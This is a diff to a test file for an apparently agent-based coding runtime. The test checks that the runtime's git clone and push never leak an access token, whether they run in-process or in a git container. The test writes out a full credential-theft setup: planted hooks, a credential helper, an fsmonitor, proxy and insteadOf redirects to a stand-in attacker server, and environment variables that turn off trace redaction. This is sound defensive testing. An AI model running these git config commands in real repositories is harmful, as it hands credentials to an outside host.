@@ -7,7 +7,8 @@ import { join } from "node:path";
 import pino from "pino";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { bareRepo, branchCommit, gitHttpServer } from "../test/support/git.ts";
-import { runTask } from "./agent.ts";
+import { type AgentOptions, runTask } from "./agent.ts";
+import { runTaskWithGitContainer } from "./git-container.test-support.ts";
 
 /**
  * A task's command and its editor write the workspace, $HOME, /tmp and the task's environment; each
@@ -159,112 +160,124 @@ async function filesUnder(root: string): Promise<string[]> {
   return entries.filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name));
 }
 
-describe("the runtime's git with a hostile workspace, HOME and environment", { timeout: 120_000 }, () => {
-  it("never hands the token to planted code or another server, and the push still lands", async () => {
-    const attacker = await attackerServer();
-    const server = await gitHttpServer(dir, { username: "x-access-token", password: TOKEN });
-    const realRepo = join(dir, "private.git");
-    await bareRepo(realRepo);
-    const real = server.url("private.git").replace(/\/private\.git$/, "");
-    const secretDir = join(dir, "secret");
-    await mkdir(secretDir);
-    await writeFile(join(secretDir, "token"), `${TOKEN}\n`);
-    await chmod(join(secretDir, "token"), 0o440);
-    const loot = join(dir, "loot");
-    await mkdir(loot);
-    const kit = await plantKit(join(dir, "kit"), loot, secretDir, attacker.url, real);
+/** The agent's clone and push in its own process (outside a pod), or in the pod's git container. */
+const MODES = {
+  "in the agent's own process": (options: AgentOptions) => runTask(options),
+  "in the git container": async (options: AgentOptions) => (await runTaskWithGitContainer(options)).state,
+};
 
-    // The command's HOME and XDG config, both planted before the runtime starts and by the command.
-    const home = join(dir, "home");
-    await mkdir(join(home, ".config", "git"), { recursive: true });
-    await writeFile(join(home, ".gitconfig"), `[include]\n\tpath = ${kit.config}\n`);
-    await writeFile(join(home, ".config", "git", "config"), `[include]\n\tpath = ${kit.config}\n`);
-    const templates = join(dir, "templates");
-    await mkdir(join(templates, "hooks"), { recursive: true });
-    for (const hook of HOOKS)
-      await writeFile(join(templates, "hooks", hook), thief(loot, secretDir, `template-${hook}`), {
-        mode: 0o755,
-      });
+describe.each(Object.entries(MODES))(
+  "the runtime's git %s, with a hostile workspace, HOME and environment",
+  {
+    timeout: 120_000,
+  },
+  (_mode, run) => {
+    it("never hands the token to planted code or another server, and the push still lands", async () => {
+      const attacker = await attackerServer();
+      const server = await gitHttpServer(dir, { username: "x-access-token", password: TOKEN });
+      const realRepo = join(dir, "private.git");
+      await bareRepo(realRepo);
+      const real = server.url("private.git").replace(/\/private\.git$/, "");
+      const secretDir = join(dir, "secret");
+      await mkdir(secretDir);
+      await writeFile(join(secretDir, "token"), `${TOKEN}\n`);
+      await chmod(join(secretDir, "token"), 0o440);
+      const loot = join(dir, "loot");
+      await mkdir(loot);
+      const kit = await plantKit(join(dir, "kit"), loot, secretDir, attacker.url, real);
 
-    // Everything the task's spec.agent.env could set, as the runtime and the command inherit it.
-    const env: NodeJS.ProcessEnv = {
-      PATH: `${kit.bin}:${process.env.PATH}`,
-      HOME: home,
-      XDG_CONFIG_HOME: join(home, ".config"),
-      GIT_CONFIG_GLOBAL: kit.config,
-      GIT_CONFIG_SYSTEM: kit.config,
-      GIT_CONFIG_PARAMETERS: `'include.path'='${kit.config}'`,
-      GIT_TEMPLATE_DIR: templates,
-      GIT_ASKPASS: join(kit.bin, "askpass"),
-      SSH_ASKPASS: join(kit.bin, "askpass"),
-      GIT_SSH_COMMAND: join(kit.bin, "ssh"),
-      GIT_PROXY_COMMAND: join(kit.bin, "ssh"),
-      GIT_SSL_NO_VERIFY: "1",
-      GIT_TRACE: join(loot, "trace"),
-      GIT_TRACE_CURL: join(loot, "trace-curl"),
-      GIT_TRACE_PACKET: join(loot, "trace-packet"),
-      GIT_TRACE_REDACT: "0",
-      GIT_CURL_VERBOSE: "1",
-      http_proxy: attacker.url,
-      HTTP_PROXY: attacker.url,
-      https_proxy: attacker.url,
-      ALL_PROXY: attacker.url,
-    };
-    const workspace = join(dir, "workspace");
-    const plant = [
-      `cp "${kit.hooks}"/* .git/hooks/`,
-      `/usr/bin/git config --local include.path "${kit.config}"`,
-      `/usr/bin/git config --local core.hooksPath "${kit.hooks}"`,
-      `/usr/bin/git config --local core.fsmonitor "${kit.bin}/fsmonitor"`,
-      `/usr/bin/git config --local credential.helper "${kit.bin}/helper"`,
-      `/usr/bin/git config --local http.proxy "${attacker.url}"`,
-      `/usr/bin/git config --local http.sslVerify false`,
-      `/usr/bin/git config --local url."${attacker.url}/".insteadOf "${real}/"`,
-      `/usr/bin/git config --local remote.origin.url "${attacker.url}/stolen.git"`,
-      `cp "${kit.config}" "$HOME/.gitconfig"`,
-      `cp "${kit.config}" "$XDG_CONFIG_HOME/git/config"`,
-      `echo '* diff=steal' > .gitattributes`,
-      "echo change >> README.md",
-    ].join(" && ");
-    const planter = editor(workspace, kit);
-    try {
-      const state = await runTask({
-        task: "steal",
-        org: "acme",
-        namespace: "org-acme",
-        attempt: 1,
-        prompt: "Change the README",
-        stateDir: join(dir, "state"),
-        workspace,
-        repo: { url: server.url("private.git"), branch: "main" },
-        command: ["/bin/sh", "-c", plant],
-        gitCredentialsDir: secretDir,
-        env,
-        stdout: () => {},
-        stderr: () => {},
-        log: pino({ level: "silent" }),
-        killGraceMs: 2_000,
-      });
+      // The command's HOME and XDG config, both planted before the runtime starts and by the command.
+      const home = join(dir, "home");
+      await mkdir(join(home, ".config", "git"), { recursive: true });
+      await writeFile(join(home, ".gitconfig"), `[include]\n\tpath = ${kit.config}\n`);
+      await writeFile(join(home, ".config", "git", "config"), `[include]\n\tpath = ${kit.config}\n`);
+      const templates = join(dir, "templates");
+      await mkdir(join(templates, "hooks"), { recursive: true });
+      for (const hook of HOOKS)
+        await writeFile(join(templates, "hooks", hook), thief(loot, secretDir, `template-${hook}`), {
+          mode: 0o755,
+        });
 
-      expect(state, state.message).toMatchObject({ exitCode: 0, lastPR: { branch: "agentyard/steal" } });
-      // The push landed in the real repository, with the token, which only the real server saw.
-      expect(await branchCommit(realRepo, "agentyard/steal")).toBe(state.lastPR?.commit);
-      expect(server.authorizations).toContain(
-        `Basic ${Buffer.from(`x-access-token:${TOKEN}`).toString("base64")}`,
-      );
-      expect(attacker.requests).toEqual([]);
-      // Nothing planted ran while the runtime's git did: the only loot is the trace of the command's
-      // own `git config` calls, which the task's GIT_TRACE reached as it should.
-      const looted = await filesUnder(loot);
-      for (const file of looted) expect(await readFile(file, "utf8"), file).not.toContain(TOKEN);
-      expect(looted.map((f) => f.slice(loot.length + 1))).toEqual(["trace"]);
-      expect(await readFile(join(loot, "trace"), "utf8")).not.toMatch(
-        /\b(clone|fetch|checkout|commit|push)\b/,
-      );
-    } finally {
-      planter.kill("SIGKILL");
-      await attacker.close();
-      await server.close();
-    }
-  });
-});
+      // Everything the task's spec.agent.env could set, as the runtime and the command inherit it.
+      const env: NodeJS.ProcessEnv = {
+        PATH: `${kit.bin}:${process.env.PATH}`,
+        HOME: home,
+        XDG_CONFIG_HOME: join(home, ".config"),
+        GIT_CONFIG_GLOBAL: kit.config,
+        GIT_CONFIG_SYSTEM: kit.config,
+        GIT_CONFIG_PARAMETERS: `'include.path'='${kit.config}'`,
+        GIT_TEMPLATE_DIR: templates,
+        GIT_ASKPASS: join(kit.bin, "askpass"),
+        SSH_ASKPASS: join(kit.bin, "askpass"),
+        GIT_SSH_COMMAND: join(kit.bin, "ssh"),
+        GIT_PROXY_COMMAND: join(kit.bin, "ssh"),
+        GIT_SSL_NO_VERIFY: "1",
+        GIT_TRACE: join(loot, "trace"),
+        GIT_TRACE_CURL: join(loot, "trace-curl"),
+        GIT_TRACE_PACKET: join(loot, "trace-packet"),
+        GIT_TRACE_REDACT: "0",
+        GIT_CURL_VERBOSE: "1",
+        http_proxy: attacker.url,
+        HTTP_PROXY: attacker.url,
+        https_proxy: attacker.url,
+        ALL_PROXY: attacker.url,
+      };
+      const workspace = join(dir, "workspace");
+      const plant = [
+        `cp "${kit.hooks}"/* .git/hooks/`,
+        `/usr/bin/git config --local include.path "${kit.config}"`,
+        `/usr/bin/git config --local core.hooksPath "${kit.hooks}"`,
+        `/usr/bin/git config --local core.fsmonitor "${kit.bin}/fsmonitor"`,
+        `/usr/bin/git config --local credential.helper "${kit.bin}/helper"`,
+        `/usr/bin/git config --local http.proxy "${attacker.url}"`,
+        `/usr/bin/git config --local http.sslVerify false`,
+        `/usr/bin/git config --local url."${attacker.url}/".insteadOf "${real}/"`,
+        `/usr/bin/git config --local remote.origin.url "${attacker.url}/stolen.git"`,
+        `cp "${kit.config}" "$HOME/.gitconfig"`,
+        `cp "${kit.config}" "$XDG_CONFIG_HOME/git/config"`,
+        `echo '* diff=steal' > .gitattributes`,
+        "echo change >> README.md",
+      ].join(" && ");
+      const planter = editor(workspace, kit);
+      try {
+        const state = await run({
+          task: "steal",
+          org: "acme",
+          namespace: "org-acme",
+          attempt: 1,
+          prompt: "Change the README",
+          stateDir: join(dir, "state"),
+          workspace,
+          repo: { url: server.url("private.git"), branch: "main" },
+          command: ["/bin/sh", "-c", plant],
+          gitCredentialsDir: secretDir,
+          env,
+          stdout: () => {},
+          stderr: () => {},
+          log: pino({ level: "silent" }),
+          killGraceMs: 2_000,
+        });
+
+        expect(state, state.message).toMatchObject({ exitCode: 0, lastPR: { branch: "agentyard/steal" } });
+        // The push landed in the real repository, with the token, which only the real server saw.
+        expect(await branchCommit(realRepo, "agentyard/steal")).toBe(state.lastPR?.commit);
+        expect(server.authorizations).toContain(
+          `Basic ${Buffer.from(`x-access-token:${TOKEN}`).toString("base64")}`,
+        );
+        expect(attacker.requests).toEqual([]);
+        // Nothing planted ran while the runtime's git did: the only loot is the trace of the command's
+        // own `git config` calls, which the task's GIT_TRACE reached as it should.
+        const looted = await filesUnder(loot);
+        for (const file of looted) expect(await readFile(file, "utf8"), file).not.toContain(TOKEN);
+        expect(looted.map((f) => f.slice(loot.length + 1))).toEqual(["trace"]);
+        expect(await readFile(join(loot, "trace"), "utf8")).not.toMatch(
+          /\b(clone|fetch|checkout|commit|push)\b/,
+        );
+      } finally {
+        planter.kill("SIGKILL");
+        await attacker.close();
+        await server.close();
+      }
+    });
+  },
+);
